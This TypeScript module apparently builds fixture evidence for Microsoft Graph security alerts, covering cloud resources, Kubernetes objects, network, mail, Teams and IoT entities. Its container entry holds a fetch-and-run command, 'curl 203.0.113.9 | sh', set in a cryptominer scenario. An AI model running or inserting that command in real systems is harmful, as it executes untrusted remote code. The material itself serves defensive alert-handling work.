import { commonFields, type GraphEvidence } from './graph-alert.js';

/** The fields of a type, by its name without `Evidence`. */
type Kinds = Readonly<Record<string, Readonly<Record<string, unknown>>>>;

/**
 * One piece of each type of evidence that no other alert has, with all fields (Learn: graph/api/resources/security-alertevidence).
 */
export function cloudEvidence(at: string, machineId: string): GraphEvidence[] {
  const piece = (name: string, fields: object): GraphEvidence => ({
    ...commonFields(`${name}Evidence`, at),
    ...fields,
  });
  const all: Kinds = { ...resources(piece), ...kubernetes(piece), ...others(piece, machineId) };
  return Object.entries(all).map(([name, fields]) => piece(name, fields));
}

type WritePiece = (name: string, fields: object) => GraphEvidence;

const AZURE = {
  resourceId:
    '/subscriptions/5f6a7b8c/resourceGroups/web/providers/Microsoft.Storage/storageAccounts/invoices',
  resourceName: 'invoices',
  resourceType: 'Microsoft.Storage/storageAccounts',
};
const ip = (piece: WritePiece, ipAddress: string) =>
  piece('ip', { ipAddress, countryLetterCode: null, location: null });

function resources(piece: WritePiece): Kinds {
  const container = {
    name: 'invoices',
    url: 'https://invoices.blob.core.windows.net/invoices',
    storageResource: piece('azureResource', AZURE),
  };
  return {
    azureResource: AZURE,
    amazonResource: {
      amazonAccountId: '123456789012',
      amazonResourceId: 'arn:aws:s3:::invoices',
      resourceName: 'invoices',
      resourceType: 's3',
    },
    googleCloudResource: {
      fullResourceName: '//storage.googleapis.com/invoices',
      location: 'europe-north1',
      locationType: 'regional',
      projectId: 'web-1',
      projectNumber: 77,
      resourceName: 'invoices',
      resourceType: 'storage.googleapis.com/Bucket',
    },
    blobContainer: container,
    blob: {
      blobContainer: piece('blobContainer', container),
      etag: '0x8DB',
      fileHashes: [{ algorithm: 'md5', value: '9e107d9d372bb6826bd81d3542a419d6' }],
      name: 'invoice.js',
      url: `${container.url}/invoice.js`,
    },
    sasToken: {
      allowedIpAddresses: '0.0.0.0-255.255.255.255',
      allowedResourceTypes: ['object'],
      allowedServices: ['blob'],
      expiryDateTime: '2020-01-01T00:00:00Z',
      permissions: ['read'],
      protocol: 'https',
      signatureHash: 'c2lnbmF0dXJl',
      signedWith: 'key1',
      startDateTime: null,
      storageResource: piece('azureResource', AZURE),
    },
    gitHubOrganization: {
      company: 'Corp',
      displayName: 'corp',
      email: null,
      login: 'corp',
      orgId: '10001',
      webUrl: 'https://github.example/corp',
    },
    gitHubRepo: {
      baseUrl: 'https://github.example/corp/web',
      login: 'web',
      owner: 'corp',
      ownerType: 'Organization',
      repoId: '20002',
    },
    gitHubUser: {
      email: null,
      login: 'a-berg',
      name: 'A. Berg',
      userId: '30003',
      webUrl: 'https://github.example/a-berg',
    },
  };
}

function kubernetes(piece: WritePiece): Kinds {
  const cluster = piece('kubernetesCluster', {
    cloudResource: piece('azureResource', AZURE),
    distribution: 'AKS',
    name: 'web',
    platform: 'aks',
    version: '1.31',
  });
  const namespace = piece('kubernetesNamespace', { cluster, labels: {}, name: 'shop' });
  const registry = piece('containerRegistry', { registry: 'corp.azurecr.io' });
  const image = piece('containerImage', { digestImage: null, imageId: 'corp.azurecr.io/shop:7', registry });
  const account = piece('kubernetesServiceAccount', { name: 'default', namespace });
  const controller = piece('kubernetesController', {
    labels: { app: 'shop' },
    name: 'shop',
    namespace,
    type: 'Deployment',
  });
  const pod = {
    containers: [],
    controller,
    ephemeralContainers: [],
    initContainers: [],
    labels: { app: 'shop' },
    name: 'shop-1',
    namespace,
    podIp: ip(piece, '10.7.0.4'),
    serviceAccount: account,
  };
  return {
    kubernetesCluster: withoutType(cluster),
    kubernetesNamespace: withoutType(namespace),
    kubernetesServiceAccount: withoutType(account),
    kubernetesController: withoutType(controller),
    kubernetesPod: pod,
    kubernetesSecret: { name: 'shop-key', namespace, secretType: 'Opaque' },
    kubernetesService: {
      clusterIP: ip(piece, '10.8.0.1'),
      externalIPs: [],
      labels: null,
      name: 'shop',
      namespace,
      selector: { app: 'shop' },
      servicePorts: [
        { appProtocol: null, name: 'web', nodePort: 0, port: 80, protocol: 'tcp', targetPort: '80' },
      ],
      serviceType: 'clusterIP',
    },
    containerRegistry: withoutType(registry),
    containerImage: withoutType(image),
    container: {
      args: [],
      command: ['/bin/sh', '-c', 'curl 203.0.113.9 | sh'],
      containerId: 'containerd://4f1d',
      image,
      isPrivileged: true,
      name: 'shop',
      pod: piece('kubernetesPod', pod),
    },
  };
}

const withoutType = ({ '@odata.type': _type, ...fields }: GraphEvidence): Kinds[string] => fields;

function others(piece: WritePiece, mdeDeviceId: string): Kinds {
  const account = piece('user', { userAccount: { accountName: 'a.berg', domainName: 'corp' } });
  const device = piece('device', { mdeDeviceId, deviceDnsName: 'host-1.corp.example' });
  return {
    malware: { category: 'trojan', files: [], name: 'Trojan:Linux/Miner', processes: [] },
    fileHash: { algorithm: 'sha256', value: 'ab'.repeat(32) },
    dns: {
      dnsServerIp: ip(piece, '10.0.0.2'),
      domainName: 'miner.example',
      hostIpAddress: ip(piece, '10.7.0.4'),
      ipAddresses: [ip(piece, '203.0.113.9')],
    },
    networkConnection: {
      destinationAddress: ip(piece, '203.0.113.9'),
      destinationPort: 3333,
      protocol: 'tcp',
      sourceAddress: ip(piece, '10.7.0.4'),
      sourcePort: 50_112,
    },
    nic: { ipAddress: ip(piece, '10.7.0.4'), macAddress: '00-00-5E-00-53-01', vlans: [] },
    hostLogonSession: {
      account,
      endUtcDateTime: null,
      host: device,
      sessionId: '0x3e7',
      startUtcDateTime: '2026-01-01T00:00:00Z',
    },
    cloudLogonSession: {
      account,
      browser: 'Edge',
      deviceName: 'host-1',
      operatingSystem: 'Windows',
      previousLogonDateTime: null,
      protocol: null,
      sessionId: 's-1',
      startUtcDateTime: '2026-01-01T00:00:00Z',
      userAgent: 'Mozilla/5.0',
    },
    cloudLogonRequest: { requestId: 'r-1' },
    ...mailAndTeams(piece),
    ioTDevice: ioTDevice(piece),
    securityGroup: {
      activeDirectoryObjectGuid: null,
      displayName: 'Admins',
      distinguishedName: 'CN=Admins,DC=corp',
      friendlyName: null,
      securityGroupId: '3a4b5c6d-7e8f-4a9b-8c0d-1e2f3a4b5c6d',
      sid: 'S-1-5-21-1-2-3-512',
    },
  };
}

function mailAndTeams(piece: WritePiece): Kinds {
  return {
    mailCluster: {
      clusterBy: 'Subject;SenderIp',
      clusterByValue: 'Invoice;203.0.113.25',
      emailCount: 12,
      networkMessageIds: ['3f2b7a10-3c4d-4e8f-9a6b-08d9c2e3f4a5'],
      query: 'Subject:"Invoice"',
      urn: 'urn:MailClusterEntity:1',
    },
    mailboxConfiguration: {
      configurationId: 'rule-1',
      configurationType: 'userInboxRule',
      displayName: 'Forward',
      externalDirectoryObjectId: null,
      mailboxPrimaryAddress: 'a.berg@corp.example',
      upn: 'a.berg@corp.example',
    },
    submissionMail: {
      networkMessageId: '3f2b7a10-3c4d-4e8f-9a6b-08d9c2e3f4a5',
      recipient: 'a.berg@corp.example',
      reportType: 'Phish',
      sender: 'billing@supplier-portal.example',
      senderIp: '203.0.113.25',
      subject: 'Invoice 2291',
      submissionDateTime: '2026-01-01T00:00:00Z',
      submissionId: 'sub-1',
      submitter: 'a.berg@corp.example',
    },
    teamsMessage: {
      campaignId: null,
      channelId: null,
      deliveryAction: 'delivered',
      deliveryLocation: 'teams',
      files: [],
      groupId: null,
      isExternal: true,
      isOwned: false,
      lastModifiedDateTime: null,
      messageDirection: 'inbound',
      messageId: '1700000000000',
      owningTenantId: null,
      parentMessageId: null,
      receivedDateTime: '2026-01-01T00:00:00Z',
      recipients: ['a.berg@corp.example'],
      senderFromAddress: 'helpdesk@other.example',
      senderIP: null,
      sourceAppName: 'Teams',
      sourceId: null,
      subject: null,
      suspiciousRecipients: [],
      threadId: '19:1@thread.v2',
      threadType: 'chat',
      urls: [piece('url', { url: 'https://invoices.supplier-portal.example' })],
    },
  };
}

function ioTDevice(piece: WritePiece): Kinds[string] {
  return {
    deviceId: '42',
    deviceName: 'plc-1',
    devicePageLink: null,
    deviceSubType: 'PLC',
    deviceType: 'Industrial',
    importance: 'normal',
    ioTHub: piece('azureResource', AZURE),
    ioTSecurityAgentId: null,
    ipAddress: ip(piece, '10.9.0.7'),
    isAuthorized: true,
    isProgramming: false,
    isScanner: false,
    macAddress: '00-00-5E-00-53-07',
    manufacturer: 'Siemens',
    model: 'S7-1500',
    nics: [],
    operatingSystem: null,
    owners: [],
    protocols: ['S7'],
    purdueLayer: 'ProcessControl',
    sensor: 'sensor-1',
    serialNumber: null,
    site: 'Malmö',
    source: 'sensor',
    sourceRef: piece('url', { url: 'https://sensor.corp.example' }),
    zone: null,
  };
}
